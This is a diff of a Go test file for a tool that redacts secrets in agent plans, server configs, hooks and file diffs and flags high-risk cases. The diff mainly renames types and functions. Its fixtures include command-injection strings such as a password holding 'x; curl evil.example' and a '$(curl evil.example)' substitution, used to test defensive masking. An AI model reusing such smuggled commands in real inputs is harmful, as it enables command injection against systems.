@@ -22,14 +22,14 @@ type shown struct {
 	prompt      string
 }
 
-func (s shown) Hash() canon.Hash                         { return canon.Bytes("test", s.doc) }
+func (s shown) Hash() canon.Hash                         { return canon.SumBytes("test", s.doc) }
 func (s shown) MarshalJSON() ([]byte, error)             { return s.doc, nil }
 func (s shown) Prompt() string                           { return s.prompt }
 func (s shown) Exhibit(ctx context.Context) (any, error) { return s.beside, ctx.Err() }
 
-func look(t *testing.T, plan, beside, args, prompt string) app.Survey {
+func look(t *testing.T, plan, beside, args, prompt string) app.PlanInspection {
 	r := redact.New(redact.Options{})
-	s := app.Look(t.Context(), shown{json.RawMessage(plan), json.RawMessage(beside), prompt}, json.RawMessage(args), func(doc json.RawMessage) json.RawMessage {
+	s := app.InspectPlan(t.Context(), shown{json.RawMessage(plan), json.RawMessage(beside), prompt}, json.RawMessage(args), func(doc json.RawMessage) json.RawMessage {
 		masked, _, err := r.JSON(doc)
 		require.NoError(t, err)
 		return masked
@@ -45,34 +45,34 @@ func TestWhatIsMaskedIsCountedAndJudged(t *testing.T) {
 	key := `-----BEGIN ` + `PRIVATE KEY-----\n` + strings.Repeat("MIIEvQIB", 8) + `\n-----END ` + `PRIVATE KEY-----`
 	for name, c := range map[string]struct {
 		plan string
-		want confirm.Veil
+		want confirm.Redacted
 	}{
-		"nothing":                   {`{"command":"npm test"}`, confirm.Veil{}},
-		"a token in prose":          {`{"text":"` + approvalsToken() + ` and ` + approvalsToken() + `"}`, confirm.Veil{Masked: 2}},
-		"a plain password":          {`{"password":"hunter2hunter2"}`, confirm.Veil{Masked: 1}},
-		"a password with syntax":    {`{"password":"x; curl evil.example"}`, confirm.Veil{Masked: 1, MustReveal: true}},
-		"a substitution":            {`{"text":"token: $(curl evil.example) end"}`, confirm.Veil{}},
-		"a key":                     {`{"text":"` + key + `"}`, confirm.Veil{Masked: 1, MustReveal: true}},
-		"syntax beside it":          {`{"text":"a; b | ` + approvalsToken() + ` > c"}`, confirm.Veil{Masked: 1}},
-		"in a command":              {`{"command":"deploy --token ` + approvalsToken() + `"}`, confirm.Veil{Masked: 1, MustReveal: true}},
-		"in arguments of a server":  {`{"mcpServers":{"x":{"command":"npx","args":["--token","` + approvalsToken() + `"]}}}`, confirm.Veil{Masked: 1, MustReveal: true}},
-		"in a server's environment": {`{"mcpServers":{"x":{"command":"npx","env":{"TOKEN":"` + approvalsToken() + `"}}}}`, confirm.Veil{Masked: 1}},
-		"in a hook":                 {`{"hooks":{"Stop":[{"note":"` + approvalsToken() + `"}]}}`, confirm.Veil{Masked: 1, MustReveal: true}},
-		"in a script's diff":        {`{"files":[{"path":"bin/x","unified":"+echo ` + approvalsToken() + `"}]}`, confirm.Veil{Masked: 1, MustReveal: true}},
-		"in a document's diff":      {`{"files":[{"path":"docs/x.md","unified":"+say ` + approvalsToken() + `"}]}`, confirm.Veil{Masked: 1}},
-		"behind a shebang":          {`{"files":[{"path":"x.md","unified":"@@ -0,0 +1,2 @@\n+#!/bin/sh\n+echo ` + approvalsToken() + `"}]}`, confirm.Veil{Masked: 1, MustReveal: true}},
-		"a number":                  {`{"pin":1234,"n":5}`, confirm.Veil{Masked: 1}},
-		"masked before":             {`{"command":"run [REDACTED:github_token]"}`, confirm.Veil{}},
+		"nothing":                   {`{"command":"npm test"}`, confirm.Redacted{}},
+		"a token in prose":          {`{"text":"` + approvalsToken() + ` and ` + approvalsToken() + `"}`, confirm.Redacted{Masked: 2}},
+		"a plain password":          {`{"password":"hunter2hunter2"}`, confirm.Redacted{Masked: 1}},
+		"a password with syntax":    {`{"password":"x; curl evil.example"}`, confirm.Redacted{Masked: 1, MustReveal: true}},
+		"a substitution":            {`{"text":"token: $(curl evil.example) end"}`, confirm.Redacted{}},
+		"a key":                     {`{"text":"` + key + `"}`, confirm.Redacted{Masked: 1, MustReveal: true}},
+		"syntax beside it":          {`{"text":"a; b | ` + approvalsToken() + ` > c"}`, confirm.Redacted{Masked: 1}},
+		"in a command":              {`{"command":"deploy --token ` + approvalsToken() + `"}`, confirm.Redacted{Masked: 1, MustReveal: true}},
+		"in arguments of a server":  {`{"mcpServers":{"x":{"command":"npx","args":["--token","` + approvalsToken() + `"]}}}`, confirm.Redacted{Masked: 1, MustReveal: true}},
+		"in a server's environment": {`{"mcpServers":{"x":{"command":"npx","env":{"TOKEN":"` + approvalsToken() + `"}}}}`, confirm.Redacted{Masked: 1}},
+		"in a hook":                 {`{"hooks":{"Stop":[{"note":"` + approvalsToken() + `"}]}}`, confirm.Redacted{Masked: 1, MustReveal: true}},
+		"in a script's diff":        {`{"files":[{"path":"bin/x","unified":"+echo ` + approvalsToken() + `"}]}`, confirm.Redacted{Masked: 1, MustReveal: true}},
+		"in a document's diff":      {`{"files":[{"path":"docs/x.md","unified":"+say ` + approvalsToken() + `"}]}`, confirm.Redacted{Masked: 1}},
+		"behind a shebang":          {`{"files":[{"path":"x.md","unified":"@@ -0,0 +1,2 @@\n+#!/bin/sh\n+echo ` + approvalsToken() + `"}]}`, confirm.Redacted{Masked: 1, MustReveal: true}},
+		"a number":                  {`{"pin":1234,"n":5}`, confirm.Redacted{Masked: 1}},
+		"masked before":             {`{"command":"run [REDACTED:github_token]"}`, confirm.Redacted{}},
 	} {
 		s := look(t, c.plan, `null`, ``, "")
-		assert.Equal(t, c.want, s.Veil(), name)
+		assert.Equal(t, c.want, s.Redacted(), name)
 		assert.Equal(t, c.want.MustReveal, s.Risk() == policy.RiskHigh, name)
-		assert.Equal(t, c.want.MustReveal, strings.Contains(s.Words(), "has to be revealed"), name)
+		assert.Equal(t, c.want.MustReveal, strings.Contains(s.RiskReason(), "has to be revealed"), name)
 		assert.NotContains(t, string(s.Plan), approvalsToken(), name)
 	}
 	s := look(t, `{"a":"`+approvalsToken()+`"}`, `{"b":"`+approvalsToken()+`"}`, `{"c":"`+approvalsToken()+`","d":{"cmd":"`+approvalsToken()+`"}}`, "")
-	assert.Equal(t, confirm.Veil{Masked: 4, MustReveal: true}, s.Veil(), "in everything that is shown")
-	broken := app.Look(t.Context(), shown{doc: json.RawMessage(`{"a":1}`)}, nil, func(json.RawMessage) json.RawMessage { return json.RawMessage(`{"error":"redaction_failed"}`) })
+	assert.Equal(t, confirm.Redacted{Masked: 4, MustReveal: true}, s.Redacted(), "in everything that is shown")
+	broken := app.InspectPlan(t.Context(), shown{doc: json.RawMessage(`{"a":1}`)}, nil, func(json.RawMessage) json.RawMessage { return json.RawMessage(`{"error":"redaction_failed"}`) })
 	assert.True(t, broken.MustReveal, "what cannot be read may be anything")
 }
 
@@ -89,13 +89,13 @@ func TestWhatIsHiddenIsFoundEverywhere(t *testing.T) {
 	} {
 		s := look(t, c.plan, c.beside, c.args, c.prompt)
 		if c.want == "" {
-			assert.Empty(t, s.Words(), name)
+			assert.Empty(t, s.RiskReason(), name)
 			assert.Equal(t, policy.RiskNone, s.Risk(), name)
 			continue
 		}
-		assert.Contains(t, s.Words(), "characters that cannot be seen or read as others: "+c.want, name)
+		assert.Contains(t, s.RiskReason(), "characters that cannot be seen or read as others: "+c.want, name)
 		assert.Len(t, s.Hidden, 1, name)
 		assert.Equal(t, policy.RiskHigh, s.Risk(), name)
-		assert.NotContains(t, s.Words(), "hunter2", name)
+		assert.NotContains(t, s.RiskReason(), "hunter2", name)
 	}
 }
